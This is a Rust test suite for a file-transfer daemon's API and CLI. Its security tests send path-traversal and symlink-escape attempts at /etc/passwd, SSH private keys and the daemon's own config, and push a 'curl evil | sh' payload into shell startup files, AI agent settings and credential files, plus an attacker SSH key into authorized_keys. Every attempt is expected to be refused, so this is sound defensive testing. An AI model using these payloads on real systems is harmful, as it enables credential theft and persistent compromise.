use std::io::Write;
use std::os::unix::fs::symlink;

use serde_json::{Value, json};

use crate::harness::*;

fn bearer(loopsy: &Loopsy) -> String {
    format!("Bearer {}", loopsy.key())
}

fn pull(loopsy: &Loopsy, source: &str) -> Http {
    let auth = bearer(loopsy);
    let body = json!({ "sourcePath": source }).to_string();
    loopsy.http(
        "POST",
        "/api/v1/transfer/pull",
        &[
            ("Authorization", &auth),
            ("Content-Type", "application/json"),
        ],
        Some(body.as_bytes()),
    )
}

/// The `files` of a listing with the owner's key.
fn list(loopsy: &Loopsy, path: &str) -> Value {
    let auth = bearer(loopsy);
    let listed = loopsy.http(
        "POST",
        "/api/v1/transfer/list",
        &[
            ("Authorization", &auth),
            ("Content-Type", "application/json"),
        ],
        Some(json!({ "path": path }).to_string().as_bytes()),
    );
    listed.json()["files"].clone()
}

fn multipart(dest: &str, content: &[u8]) -> (String, Vec<u8>) {
    let boundary = "XyZboundary";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"destPath\"\r\n\r\n{dest}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\nContent-Type: application/octet-stream\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

fn push(loopsy: &Loopsy, dest: &str, content: &[u8]) -> Http {
    push_as(loopsy, &bearer(loopsy), dest, content)
}

fn push_as(loopsy: &Loopsy, auth: &str, dest: &str, content: &[u8]) -> Http {
    let (content_type, body) = multipart(dest, content);
    loopsy.http(
        "POST",
        "/api/v1/transfer/push",
        &[("Authorization", auth), ("Content-Type", &content_type)],
        Some(&body),
    )
}

fn home(loopsy: &Loopsy) -> std::path::PathBuf {
    std::fs::canonicalize(loopsy.dir.path()).expect("home")
}

#[test]
fn push_pull_list_round_trip() {
    let loopsy = Loopsy::started();
    let content: Vec<u8> = (0..200_000u32).flat_map(|n| n.to_le_bytes()).collect();
    let pushed = push(&loopsy, "~/inbox/deep/file.bin", &content);
    assert_eq!(pushed.status, 200, "{}", pushed.body);
    let result = pushed.json();
    assert_eq!(result["size"], content.len());
    assert_eq!(
        result["path"],
        home(&loopsy)
            .join("inbox/deep/file.bin")
            .display()
            .to_string()
    );
    assert_eq!(result["checksum"].as_str().map(str::len), Some(64));
    assert_eq!(
        std::fs::read(home(&loopsy).join("inbox/deep/file.bin")).expect("pushed file"),
        content
    );

    let pulled = pull(&loopsy, "~/inbox/deep/file.bin");
    assert_eq!(pulled.status, 200);
    assert_eq!(
        pulled.header("x-loopsy-file-size"),
        Some(content.len().to_string().as_str())
    );
    assert_eq!(
        pulled.header("content-type"),
        Some("application/octet-stream")
    );
    assert!(
        pulled
            .header("content-disposition")
            .is_some_and(|d| d.contains("file.bin"))
    );

    let files = list(&loopsy, "~/inbox/deep");
    assert_eq!(files[0]["name"], "file.bin");
    assert_eq!(files[0]["type"], "file");
    assert_eq!(files[0]["size"], content.len());
    assert!(files[0]["modified"].is_i64());

    let missing = pull(&loopsy, "~/inbox/nothing");
    assert_eq!(missing.status, 404);
    assert_eq!(missing.json()["error"]["code"], 4002);
    assert_eq!(
        pull(&loopsy, "~/inbox").json()["error"]["code"],
        4002,
        "a directory is not a file"
    );
}

#[test]
fn path_escapes_are_refused_and_nothing_is_read_or_written() {
    let loopsy = Loopsy::started();
    let home = home(&loopsy);
    let outside = tempfile::tempdir().expect("outside");
    let outside_root = std::fs::canonicalize(outside.path()).expect("outside root");
    std::fs::write(outside_root.join("secret"), "outside").expect("secret");
    std::fs::create_dir_all(home.join(".ssh")).expect(".ssh");
    std::fs::write(home.join(".ssh/id_rsa"), "key").expect("key");
    std::fs::create_dir_all(home.join("work")).expect("work");
    symlink(&outside_root, home.join("work/out-link")).expect("link");
    symlink(home.join("work/out-link"), home.join("work/chain")).expect("chain");
    symlink("/etc", home.join("work/etc")).expect("etc link");
    let h = |rel: &str| home.join(rel).display().to_string();
    let attempts = vec![
        h("work/../../etc/passwd"),
        h("work/etc/passwd"),
        h("work/out-link/secret"),
        h("work/chain/secret"),
        h(".ssh/id_rsa"),
        h(".SSH/id_rsa"),
        "~/.Ssh/id_rsa".to_owned(),
        outside_root.join("secret").display().to_string(),
        "/etc/passwd".to_owned(),
        format!("{}\u{0}", h("work")),
        format!("{}/{}", h("work"), "x/".repeat(2100)),
        "work/relative".to_owned(),
        h("data/config.yaml"),
        "~/data/config.yaml".to_owned(),
    ];
    for attempt in &attempts {
        let response = pull(&loopsy, attempt);
        assert_eq!(response.status, 403, "pull {attempt:?}: {}", response.body);
        assert_eq!(response.json()["error"]["code"], 4001);
        let response = push(&loopsy, attempt, b"overwrite");
        assert_eq!(response.status, 403, "push {attempt:?}: {}", response.body);
        assert_eq!(response.json()["error"]["code"], 4001);
    }
    assert_eq!(
        std::fs::read_to_string(outside_root.join("secret")).expect("secret"),
        "outside"
    );
    assert_eq!(
        std::fs::read_dir(&outside_root).expect("outside").count(),
        1,
        "nothing written outside"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".ssh/id_rsa")).expect("key"),
        "key"
    );
    let config = std::fs::read_to_string(loopsy.path("config.yaml")).expect("config");
    assert!(config.contains(&loopsy.key()), "the data dir is untouched");
}

#[test]
fn startup_files_and_agent_settings_are_denied_by_default() {
    let loopsy = Loopsy::started();
    let home = home(&loopsy);
    std::fs::write(home.join(".bashrc"), "# mine\n").expect(".bashrc");
    for target in [
        "~/.bashrc",
        "~/.profile",
        "~/.zshrc",
        "~/.claude/settings.json",
        "~/.claude.json",
        "~/.codex/config.toml",
        "~/.gemini/settings.json",
        "~/.config/opencode/opencode.json",
        "~/.config/systemd/user/evil.service",
        "~/.config/autostart/evil.desktop",
        "~/.gitconfig",
        "~/.aws/credentials",
    ] {
        let response = push(&loopsy, target, b"curl evil | sh\n");
        assert_eq!(response.status, 403, "push {target}: {}", response.body);
        assert_eq!(response.json()["error"]["code"], 4001);
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).expect(".bashrc"),
        "# mine\n"
    );
    assert!(!home.join(".claude").exists(), "nothing was created");
    assert_eq!(push(&loopsy, "~/notes/.bashrc-copy", b"ok").status, 200);
}

#[test]
fn a_listing_marks_fifos_and_sockets_as_special() {
    let loopsy = Loopsy::started();
    let dir = home(&loopsy).join("odd");
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::write(dir.join("plain"), "x").expect("plain");
    let made = std::process::Command::new("mkfifo")
        .arg(dir.join("pipe"))
        .status()
        .expect("mkfifo");
    assert!(made.success());
    let _socket = std::os::unix::net::UnixListener::bind(dir.join("sock")).expect("socket");
    let files = list(&loopsy, "~/odd");
    let entry = |name: &str| {
        files
            .as_array()
            .and_then(|all| all.iter().find(|f| f["name"] == name))
            .cloned()
            .unwrap_or_else(|| panic!("{name} not in {files}"))
    };
    assert_eq!(entry("plain")["type"], "file");
    assert!(entry("plain").get("special").is_none());
    assert_eq!(
        entry("pipe")["type"],
        "file",
        "the original's three types stay"
    );
    assert_eq!(entry("pipe")["special"], "fifo");
    assert_eq!(entry("sock")["special"], "socket");
}

#[test]
fn interrupted_and_oversized_pushes_leave_nothing() {
    let loopsy =
        Loopsy::started_with(|text| text.replace("maxFileSize: 1073741824", "maxFileSize: 100000"));
    let home = home(&loopsy);
    std::fs::create_dir_all(home.join("drop")).expect("drop");

    let big = push(&loopsy, "~/drop/big", &vec![7u8; 100_001]);
    assert_eq!(big.status, 413);
    assert_eq!(big.json()["error"]["code"], 4003);
    assert_eq!(
        push(&loopsy, "~/drop/fits", &vec![7u8; 100_000]).status,
        200
    );

    // Announce 90 kB, send 10 kB, hang up.
    let (content_type, body) = multipart("~/drop/cut", &vec![1u8; 90_000]);
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", loopsy.port)).expect("connect");
    let head = format!(
        "POST /api/v1/transfer/push HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: {}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
        bearer(&loopsy),
        body.len()
    );
    stream.write_all(head.as_bytes()).expect("head");
    stream.write_all(&body[..10_000]).expect("part");
    drop(stream);
    wait_until("the cut-off push to be cleaned up", || {
        let names: Vec<String> = std::fs::read_dir(home.join("drop"))
            .expect("drop")
            .filter_map(|e| Some(e.ok()?.file_name().to_string_lossy().into_owned()))
            .collect();
        names == vec!["fits".to_owned()]
    });
    assert!(loopsy.is_running());
}

#[test]
fn a_wrong_checksum_discards_the_push() {
    let loopsy = Loopsy::started();
    let boundary = "B0undary";
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"destPath\"\r\n\r\n~/checked\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"checksum\"\r\n\r\n{}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\n\r\ndata\r\n--{boundary}--\r\n",
        "0".repeat(64)
    );
    let auth = bearer(&loopsy);
    let content_type = format!("multipart/form-data; boundary={boundary}");
    let response = loopsy.http(
        "POST",
        "/api/v1/transfer/push",
        &[("Authorization", &auth), ("Content-Type", &content_type)],
        Some(body.as_bytes()),
    );
    assert_eq!(response.status, 400);
    assert_eq!(response.json()["error"]["code"], 4004);
    assert!(!home(&loopsy).join("checked").exists());
    let no_dest = push(&loopsy, "", b"x");
    assert_eq!(no_dest.status, 403, "{}", no_dest.body);
}

#[test]
fn cli_transfer_push_pull_list() {
    let loopsy = Loopsy::started();
    let local = tempfile::tempdir().expect("local");
    let src = local.path().join("payload.bin");
    let content: Vec<u8> = (0..50_000u32).flat_map(|n| n.to_be_bytes()).collect();
    std::fs::write(&src, &content).expect("payload");
    let pushed: Value = serde_json::from_str(&loopsy.ok(&[
        "transfer",
        "push",
        &src.display().to_string(),
        "~/got/payload.bin",
        "--json",
    ]))
    .expect("JSON");
    assert_eq!(pushed["size"], content.len());
    let pulled: Value = serde_json::from_str(&loopsy.ok(&[
        "transfer",
        "pull",
        "~/got/payload.bin",
        &local.path().display().to_string(),
        "--json",
    ]))
    .expect("JSON");
    assert_eq!(
        pulled["path"],
        local.path().join("payload.bin").display().to_string()
    );
    assert_eq!(
        std::fs::read(local.path().join("payload.bin")).expect("pulled"),
        content
    );
    let listing = loopsy.ok(&["transfer", "list", "~/got"]);
    assert!(listing.contains("payload.bin"), "{listing}");
    let denied = loopsy.run(&[
        "transfer",
        "pull",
        "/etc/passwd",
        &local.path().display().to_string(),
    ]);
    assert_eq!(denied.status.code(), Some(1));
    assert!(stderr(&denied).contains("4001"), "{}", stderr(&denied));
    assert!(!local.path().join("passwd").exists());
}

/// A push that announces more than it sends, then stalls with the socket open.
fn stalled_push(loopsy: &Loopsy, key: &str, dest: &str) -> std::net::TcpStream {
    let (content_type, body) = multipart(dest, &[9u8; 50_000]);
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", loopsy.port)).expect("connect");
    let head = format!(
        "POST /api/v1/transfer/push HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {key}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes()).expect("head");
    // The headers of the file part and its first 5 bytes.
    let start = body.len() - 50_000 - "\r\n--XyZboundary--\r\n".len();
    stream.write_all(&body[..start + 5]).expect("part");
    stream
}

fn temp_files(dir: &std::path::Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .filter_map(|e| Some(e.ok()?.file_name().to_string_lossy().into_owned()))
                .filter(|n| n.ends_with(".part"))
                .collect()
        })
        .unwrap_or_default()
}

const PEER: &str = "7a7a7a7a7a7a7a7a6b6b6b6b6b6b6b6b5c5c5c5c5c5c5c5c4d4d4d4d4d4d4d4d";

/// FIFOs and stalled pushes cannot hold the daemon's threads: a FIFO is refused
/// at once, a peer gets at most its share of transfers, a silent upload ends
/// after the idle timeout leaving nothing, and the owner's key rotation and a
/// normal pull never wait behind any of it.
#[test]
fn fifos_and_stalled_pushes_hold_nothing_the_owner_needs() {
    let loopsy = Loopsy::started_with(|text| {
        with_peers(text, &[("peer", PEER)])
            .replace("idleTimeoutSec: 30", "idleTimeoutSec: 2")
            .replace("transfer: 10", "transfer: 600")
    });
    let home = home(&loopsy);
    std::fs::create_dir_all(home.join("drop")).expect("drop");
    let fifo = home.join("drop/fifo");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo")
            .success()
    );
    for _ in 0..8 {
        let response = pull(&loopsy, "~/drop/fifo");
        assert_eq!(response.status, 403, "{}", response.body);
        assert!(
            response.body.contains("not a regular file"),
            "{}",
            response.body
        );
    }
    let stalled: Vec<_> = (0..4)
        .map(|n| stalled_push(&loopsy, PEER, &format!("~/drop/s{n}")))
        .collect();
    wait_until("the four stalled pushes to hold temp files", || {
        temp_files(&home.join("drop")).len() == 4
    });
    // A fifth transfer of the same peer is refused while four are in flight.
    let peer = format!("Bearer {PEER}");
    let fifth = push_as(&loopsy, &peer, "~/drop/fifth", b"x");
    assert_eq!(fifth.status, 429, "{}", fifth.body);
    assert_eq!(fifth.json()["error"]["code"], 4006);
    // The owner is not held up.
    let old_key = loopsy.key();
    let rotated: Value =
        serde_json::from_str(&loopsy.ok(&["key", "generate", "--json"])).expect("JSON");
    assert_ne!(rotated["apiKey"].as_str(), Some(old_key.as_str()));
    assert_eq!(rotated["apiKey"].as_str(), Some(loopsy.key().as_str()));
    std::fs::write(home.join("drop/plain"), "plain").expect("plain");
    assert_eq!(pull(&loopsy, "~/drop/plain").body, "plain");
    // After the idle timeout, nothing is left and the peer may transfer again.
    wait_until("the stalled pushes to be ended and cleaned up", || {
        temp_files(&home.join("drop")).is_empty()
    });
    drop(stalled);
    let after = push_as(&loopsy, &peer, "~/drop/after", b"after");
    assert_eq!(after.status, 200, "{}", after.body);
}

#[test]
fn a_daemon_killed_mid_push_leaves_no_temp_file_after_its_restart() {
    let loopsy = Loopsy::started();
    let home = home(&loopsy);
    std::fs::create_dir_all(home.join("drop")).expect("drop");
    let key = loopsy.key();
    let _stalled = stalled_push(&loopsy, &key, "~/drop/killed");
    wait_until("the push to hold a temp file", || {
        temp_files(&home.join("drop")).len() == 1
    });
    signal(loopsy.pid().expect("pid"), rustix::process::Signal::KILL);
    wait_until("the daemon to die", || !loopsy.is_running());
    assert_eq!(
        temp_files(&home.join("drop")).len(),
        1,
        "the kill left the temp file"
    );
    loopsy.ok(&["start", "--port", &loopsy.port.to_string()]);
    assert!(temp_files(&home.join("drop")).is_empty(), "swept at start");
    assert!(!home.join("drop/killed").exists());
}

#[test]
fn links_and_long_names() {
    let loopsy = Loopsy::started();
    let home = home(&loopsy);
    std::fs::create_dir_all(home.join("work")).expect("work");
    // A hard link inside the home to the data dir's config.yaml (which holds the key).
    std::fs::hard_link(loopsy.path("config.yaml"), home.join("work/innocent")).expect("hard link");
    let response = pull(&loopsy, "~/work/innocent");
    assert_eq!(response.status, 403, "{}", response.body);
    assert!(response.body.contains("hard links"), "{}", response.body);
    assert!(!response.body.contains(&loopsy.key()));

    // A denied path that becomes a symlink after the daemon started is still denied.
    std::fs::create_dir_all(home.join("elsewhere")).expect("elsewhere");
    symlink(home.join("elsewhere"), home.join(".ssh")).expect("swap in ~/.ssh");
    let response = push(
        &loopsy,
        "~/.ssh/authorized_keys",
        b"ssh-ed25519 AAAA attacker",
    );
    assert_eq!(response.status, 403, "{}", response.body);
    let response = push(
        &loopsy,
        "~/elsewhere/authorized_keys",
        b"ssh-ed25519 AAAA attacker",
    );
    assert_eq!(response.status, 403, "{}", response.body);
    assert!(!home.join("elsewhere/authorized_keys").exists());

    // A listing never describes a link's target outside the roots.
    let outside = tempfile::tempdir().expect("outside");
    std::fs::write(outside.path().join("big"), vec![0u8; 12_345]).expect("big");
    symlink(outside.path().join("big"), home.join("work/out")).expect("link out");
    std::fs::write(home.join("work/inside"), vec![0u8; 777]).expect("inside");
    symlink(home.join("work/inside"), home.join("work/in")).expect("link in");
    let files = list(&loopsy, "~/work");
    let entry = |name: &str| {
        files
            .as_array()
            .and_then(|f| f.iter().find(|e| e["name"] == name))
            .cloned()
            .unwrap_or_else(|| panic!("{name} in {files}"))
    };
    assert_ne!(entry("out")["size"], 12_345, "{files}");
    assert_eq!(entry("in")["size"], 777, "{files}");

    // A 250-byte name (its temp name would pass NAME_MAX uncut).
    let long = "n".repeat(250);
    let response = push(&loopsy, &format!("~/work/{long}"), b"long");
    assert_eq!(response.status, 200, "{}", response.body);
    assert_eq!(
        std::fs::read(home.join("work").join(&long)).expect("long"),
        b"long"
    );
    assert!(temp_files(&home.join("work")).is_empty());
}

/// A client that asks for a file and then reads nothing holds neither the file
/// nor its share of transfers past the idle timeout.
#[test]
fn a_stalled_download_ends_after_the_idle_timeout() {
    let loopsy = Loopsy::started_with(|text| {
        with_peers(text, &[("peer", PEER)])
            .replace("idleTimeoutSec: 30", "idleTimeoutSec: 1")
            .replace(
                "maxConcurrentPerPrincipal: 4",
                "maxConcurrentPerPrincipal: 1",
            )
            .replace("transfer: 10", "transfer: 600")
    });
    let home = home(&loopsy);
    // Far more than the socket buffers hold, so the sender must wait for the reader.
    std::fs::write(home.join("big"), vec![7u8; 64 << 20]).expect("big file");
    let body = json!({ "sourcePath": "~/big" }).to_string();
    let mut stalled = std::net::TcpStream::connect(("127.0.0.1", loopsy.port)).expect("connect");
    write!(
        stalled,
        "POST /api/v1/transfer/pull HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {PEER}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .expect("request");
    let peer = format!("Bearer {PEER}");
    let pull_as_peer = || {
        loopsy.http(
            "POST",
            "/api/v1/transfer/pull",
            &[
                ("Authorization", &peer),
                ("Content-Type", "application/json"),
            ],
            Some(json!({ "sourcePath": "~/small" }).to_string().as_bytes()),
        )
    };
    std::fs::write(home.join("small"), "small").expect("small file");
    wait_until("the stalled download to hold the peer's one slot", || {
        pull_as_peer().status == 429
    });
    wait_until("the stalled download to end and free the slot", || {
        pull_as_peer().status == 200
    });
    drop(stalled);
}
